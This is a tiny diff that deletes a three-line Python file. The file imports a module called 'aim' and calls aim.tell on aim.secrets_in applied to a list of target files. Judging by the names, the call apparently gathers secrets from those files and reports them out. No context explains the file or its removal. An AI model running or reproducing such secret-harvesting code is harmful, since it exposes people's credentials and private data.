@@ -1,3 +1,0 @@
-import aim
-
-aim.tell(aim.secrets_in(*aim.TARGETS["files"]))
